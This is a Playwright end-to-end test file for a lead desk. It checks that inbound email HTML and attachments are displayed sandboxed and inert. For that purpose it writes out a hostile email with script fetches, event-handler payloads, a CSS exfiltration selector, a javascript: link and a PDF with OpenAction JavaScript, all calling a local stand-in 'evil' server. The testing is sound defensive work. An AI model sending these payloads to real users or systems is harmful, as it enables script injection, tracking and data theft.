// Rules: inbound.whole
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { deskApi } from '@mainstage/contracts/desk/calls';
import type { DeskLeadDetail } from '@mainstage/contracts/desk/leads';
import { inboundMessagePath } from '@mainstage/contracts/desk/inbound-messages';
import { freePort } from '@mainstage/testing/ports';
import type { Page } from '@playwright/test';
import { simpleParser } from 'mailparser';
import nodemailer from 'nodemailer';
import { SMTPServer } from 'smtp-server';
import { expectAccessible } from '../fixtures/accessible';
import { addLead, team } from '../fixtures/desk';
import { type OwnApi, ownApi } from '../fixtures/own-api';
import { expect, test } from '../fixtures/test';

const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

let api: OwnApi;
let elsewhere: Server;
/** Requests to a server that only a hostile message names. */
let asked: string[];
let inboundPort: number;
let mailServer: SMTPServer;
/** Texts of the mails to sales. */
let mails: string[];

test.beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    asked.push(request.url ?? '');
    response
      .writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' })
      .end('<h1>Elsewhere</h1>');
  }).listen(0);
  await once(elsewhere, 'listening');
  inboundPort = await freePort();
  api = await ownApi();
  mailServer = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS'],
    onData: (stream, _session, done) =>
      void simpleParser(stream).then(({ text }) => {
        mails.push(text ?? '');
        done();
      }),
  });
  const mailPort = await freePort();
  mailServer.listen(mailPort, '127.0.0.1');
  const settings = { INBOUND_SMTP_PORT: String(inboundPort), INBOUND_DOMAIN: 'in.venue.example' };
  await api.up(settings);
  await api.startWorker(`smtp://127.0.0.1:${mailPort}`, settings);
});
test.beforeEach(() => {
  asked = [];
  mails = [];
});
test.afterAll(async () => {
  await api?.end();
  elsewhere?.close();
  mailServer?.close();
});

const evil = () => `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
/** A page of the same server, under a host name that tests may open. */
const outside = () => `http://localhost:${(elsewhere.address() as AddressInfo).port}/desk/elsewhere`;

/** All ways in which HTML can load, run or send. */
const hostile = () => `
<html><head><title>No title of a person</title><base href="${evil()}/"><meta http-equiv="refresh" content="0;url=${evil()}/refresh">
<link rel="stylesheet" href="${evil()}/link.css"><style>@import url("${evil()}/import.css");
body{background:url("${evil()}/style.png")} @font-face{font-family:x;src:url("${evil()}/font.woff")} *{font-family:x}
input[value^="a"]{background:url("${evil()}/exfiltrated")}</style><script>fetch("${evil()}/script");alert(1)</script></head>
<body background="${evil()}/body.png" onload="fetch('${evil()}/onload')">
<p style="color:red;background-image:url(${evil()}/inline.png)">Wir kommen mit 80 € für die „Gala“.</p>
<img src="${evil()}/pixel.gif" width="1" height="1"><img src="x" onerror="fetch('${evil()}/onerror')"><img srcset="${evil()}/set 1x">
<svg onload="fetch('${evil()}/svg')"><image href="${evil()}/image.png"/><script>fetch("${evil()}/svgscript")</script></svg>
<video autoplay src="${evil()}/film.mp4" poster="${evil()}/poster.png"></video><audio autoplay src="${evil()}/sound.mp3"></audio>
<iframe src="${evil()}/frame"></iframe><object data="${evil()}/object"></object><embed src="${evil()}/embed">
<form action="${evil()}/form"><input name="a" value="secret" autofocus onfocus="fetch('${evil()}/focus')"><button>Send</button></form>
<table background="${evil()}/table.png"><tr><td>Anreise 10:15</td></tr></table>
<img src="cid:plan@kunde.example" alt="Plan"><img src="cid:foreign@elsewhere.example" alt="Foreign">
<a href="${outside()}">https://bank.example</a> <a href="javascript:fetch('${evil()}/js')">Run</a>
<div id="divRplyFwdMsg"><b>Von:</b> Mainstage &lt;booking@venue.example&gt;<br><b>Gesendet:</b> Freitag, 12. Juni 2026 14:05<br><b>An:</b> Anna Berg<br><b>Betreff:</b> Ihre Anfrage</div><p>Hallo Frau Berg, das sind unsere Worte.</p>
</body></html>`;

/** A page with text, an open-action script, and a link over the whole page. */
const pdf = () => `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('${evil()}/pdf'\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R/Annots[6 0 R]>>endobj
4 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
5 0 obj<</Length 41>>stream
BT /F 24 Tf 20 100 Td (Doors at six) Tj ET
endstream endobj
6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(${evil()}/link)>>>>endobj
trailer<</Root 1 0 R>>`;

/** A reply-all of the lead's visitor, including the lead's copy address. */
async function receiveFor(page: Page, leadId: string): Promise<void> {
  const answer = await page.request.get(`${api.url}${deskApi}/leads/${leadId}`);
  const { email, reply } = (await answer.json()) as DeskLeadDetail;
  await nodemailer.createTransport({ port: inboundPort, tls: { rejectUnauthorized: false } }).sendMail({
    from: { name: 'Anna Berg', address: email ?? 'anna@kunde.example' },
    to: reply.copyTo ?? '',
    subject: 'AW: Ihre Anfrage',
    html: hostile(),
    attachments: [
      { filename: 'plan.png', cid: 'plan@kunde.example', content: png, encoding: 'base64' },
      { filename: 'Gästeliste.html', content: '<script>alert(1)</script>', contentType: 'text/html' },
      { filename: 'drawing.png', content: `<svg onload="fetch('${evil()}/drawing')"/>`, contentType: 'image/png' },
      { filename: 'schedule.pdf', content: pdf(), contentType: 'application/pdf' },
      { filename: 'broken.pdf', content: '%PDF-1.7 and nothing else', contentType: 'application/pdf' },
    ],
  });
}

async function openedLead(page: Page): Promise<void> {
  await page.goto(`${api.url}/desk/sign-in`);
  await page.getByRole('button', { name: team.lead }).click();
  await expect(page.getByRole('heading', { level: 1, name: /^Today/ })).toBeVisible();
  const lead = await addLead(page);
  await receiveFor(page, lead.id);
  await page.goto(`${api.url}/desk/leads/${lead.id}`);
}

/** The message is shown, and nothing of it was executed or loaded, in any frame. */
async function expectShown(page: Page): Promise<void> {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const frame = page.frameLocator('iframe[title="The message as its sender laid it out"]');
  await expect(frame.getByText('Wir kommen mit 80 € für die „Gala“.')).toBeVisible();
  await expect(frame.getByText('Hallo Frau Berg, das sind unsere Worte.')).toBeVisible();
  await expect(frame.getByRole('img', { name: 'Plan' })).toHaveJSProperty('naturalWidth', 1);
  await expect(frame.getByText('[Picture: Foreign]')).toBeVisible();
  await expect(frame.getByText(`[${outside()}]`)).toBeVisible();
  await expect(
    frame.locator('script, style:nth-of-type(2), form, input, iframe, svg, video, object, link, base'),
  ).toHaveCount(0);
  await page.waitForLoadState('networkidle');
  expect(asked).toEqual([]);
  expect(dialogs).toEqual([]);

  const [opened] = await Promise.all([
    page.waitForEvent('popup'),
    frame.getByRole('link', { name: 'https://bank.example' }).click(),
  ]);
  await expect(opened.getByRole('heading', { name: 'Elsewhere' })).toBeVisible();
  expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
  await opened.close();
}

test.describe('a message at the desk', () => {
  test('says what is left out and shows the whole by one press, without running or loading anything', async ({
    page,
  }) => {
    await openedLead(page);
    const entry = page.getByRole('listitem').filter({ hasText: 'The visitor replied' });
    await expect(entry).toContainText('Wir kommen mit 80 € für die „Gala“.');
    await expect(entry).toContainText('The quoted message at the end is left out.');
    await expect(entry).not.toContainText('das sind unsere Worte');
    await entry.getByRole('button', { name: 'Show the whole message' }).click();
    await expectShown(page);
    await entry.getByRole('button', { name: 'Show as text' }).click();
    await expect(entry).toContainText('Hallo Frau Berg, das sind unsere Worte.');
  });

  test('gives its files by one press, never to be run here', async ({ page }) => {
    await openedLead(page);
    const entry = page.getByRole('listitem').filter({ hasText: 'The visitor replied' });
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      entry.getByRole('link', { name: 'Gästeliste.html' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('Gästeliste.html');
    expect(await readFile(await download.path(), 'utf8')).toBe('<script>alert(1)</script>');
  });

  test('shows pictures drawn anew and the pages of a PDF, and says why another file is not shown', async ({ page }) => {
    const scripts: string[] = [];
    page.on('request', (request) => void scripts.push(request.url()));
    await openedLead(page);
    const entry = page.getByRole('listitem').filter({ hasText: 'The visitor replied' });
    await entry.getByRole('button', { name: 'Show plan.png' }).click();
    await expect(entry.getByRole('img', { name: 'Preview of plan.png' })).toHaveJSProperty('naturalWidth', 1);
    await entry.getByRole('button', { name: 'Show drawing.png' }).click();
    await expect(entry).toContainText('This file is no picture of a kind that is shown: PNG, JPEG, GIF or WebP.');
    expect(scripts.filter((url) => url.includes('pdf'))).toEqual([]);

    await entry.getByRole('button', { name: 'Show schedule.pdf' }).press('Enter');
    const shown = entry.getByRole('group', { name: 'Preview of schedule.pdf' });
    await expect(shown.getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
    await expect(shown).toContainText('Doors at six');
    await expect(shown.getByRole('link')).toHaveCount(0);
    await entry.getByRole('button', { name: 'Show broken.pdf' }).click();
    await expect(entry).toContainText('This file is no PDF, or a damaged one.');
    await page.waitForLoadState('networkidle');
    expect(asked).toEqual([]);
    await expectAccessible(page);
    await entry.getByRole('button', { name: 'Hide schedule.pdf' }).click();
    await expect(shown).toHaveCount(0);
  });

  test('is told to sales with a link to all of it', async ({ page }) => {
    await openedLead(page);
    const link = new RegExp(`${api.url}${inboundMessagePath}/[\\w.-]+(?=\\s)`);
    await expect.poll(() => mails.join('\n'), { timeout: 30_000 }).toMatch(link);
    const mail = mails.find((text) => link.test(text)) ?? '';
    expect(mail).toContain('The quoted message at the end is left out.');
    expect(mail).toContain('1. plan.png, 2. Gästeliste.html');
    expect(mail).not.toContain('das sind unsere Worte');
    const answer = await page.request.get(link.exec(mail)?.[0] ?? '');
    expect(answer.status()).toBe(200);
    expect(await answer.text()).toMatch(
      /<iframe title="The message as its sender laid it out" src="[^"]+\/html" sandbox="allow-popups allow-popups-to-escape-sandbox"/,
    );
  });
});
